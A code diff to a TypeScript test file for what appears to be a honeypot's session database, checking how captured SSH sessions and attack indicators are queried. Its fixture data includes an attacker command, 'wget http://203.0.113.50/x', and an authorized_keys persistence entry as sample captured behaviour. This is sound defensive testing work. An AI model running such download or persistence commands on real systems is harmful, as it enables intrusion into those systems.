@@ -1,15 +1,16 @@
 import { Database } from "bun:sqlite";
 import { expect, test } from "bun:test";
-import { readFileSync } from "node:fs";
+import { readdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 import { peerCount, peerList } from "./meshd-queries.ts";
-import { sessionCounts, sessionsPage } from "./trapd-queries.ts";
+import { indicatorList, sessionById, sessionCounts, sessionsPage } from "./trapd-queries.ts";
 
 const ROOT = join(import.meta.dir, "../../..");
-/** The owner's real migration, so a query naming a column the table lacks fails here. */
+/** The owner's real migrations, in order, so a query naming a column the table lacks fails here. */
 function owned(service: string): Database {
   const db = new Database(":memory:");
-  for (const stmt of readFileSync(join(ROOT, `services/${service}/drizzle/0000_init.sql`), "utf8").split("--> statement-breakpoint")) db.exec(stmt);
+  const dir = join(ROOT, `services/${service}/drizzle`);
+  for (const f of readdirSync(dir).filter((n) => n.endsWith(".sql")).sort()) for (const stmt of readFileSync(join(dir, f), "utf8").split("--> statement-breakpoint")) db.exec(stmt);
   return db;
 }
 
@@ -46,4 +47,26 @@ test("meshd peers: named columns, connected as a boolean", () => {
   expect(list.map((p) => [p.peer_id, p.connected])).toEqual([["12D3KooWa", true], ["12D3KooWb", false]]);
   expect(list[0]).toMatchObject({ cluster: "c", node_id: null, score: 0.5, last_reject: null });
   expect(peerCount(db)).toBe(2);
+});
+
+test("trapd capture: a session by id carries its commands' times, indicators, persistence and files; indicators aggregate", () => {
+  const db = owned("trapd");
+  const ins = db.prepare(
+    "INSERT INTO sessions (session_id, service, src, src_port, dst, dst_port, started_at, ended_at, bytes_in, bytes_out, credentials, commands, payload, entropy, meta, end_reason, capture) VALUES (?, 'ssh', ?, 40000, '192.0.2.1', 22, ?, ?, 3, 0, '[]', '[\"wget http://203.0.113.50/x\"]', x'', 1.5, '{}', 'closed', ?)",
+  );
+  const sha = "a".repeat(64);
+  const cap = (fp: string) => JSON.stringify({ command_at: [12], indicators: { urls: ["http://203.0.113.50/x"], hosts: ["203.0.113.50"] }, persistence: [{ kind: "authorized_key", path: "/root/.ssh/authorized_keys", detail: "ssh-ed25519 k", key_fingerprint: fp }], files: [{ sha256: sha, size: 3, name: "/tmp/x", via: "scp", stored: true }], transcript: "s.cast" });
+  ins.run("s-000010", "198.51.100.1", 1000, 1100, cap("SHA256:one"));
+  ins.run("s-000011", "198.51.100.2", 2000, 2100, cap("SHA256:two"));
+  ins.run("s-000012", "198.51.100.3", 3000, 3100, null);
+  const one = sessionById(db, "s-000010")!;
+  expect(one).toMatchObject({ commands: ["wget http://203.0.113.50/x"], command_at: [12], indicators: { urls: ["http://203.0.113.50/x"] }, transcript: "s.cast" });
+  expect(one.persistence?.[0]?.key_fingerprint).toBe("SHA256:one");
+  expect(sessionById(db, "s-000012")).not.toHaveProperty("indicators");
+  expect(sessionById(db, "nope")).toBeUndefined();
+  const ind = indicatorList(db, 100);
+  expect(ind.find((i) => i.type === "url")).toEqual({ type: "url", value: "http://203.0.113.50/x", first_seen: 1000, last_seen: 2000, sessions: 2, sources: ["198.51.100.2", "198.51.100.1"] });
+  expect(ind.filter((i) => i.type === "ssh-key").map((i) => i.value).sort()).toEqual(["SHA256:one", "SHA256:two"]);
+  expect(ind.find((i) => i.type === "file")?.value).toBe(sha);
+  expect(indicatorList(db, 100, 1500).find((i) => i.type === "url")?.sessions).toBe(1);
 });
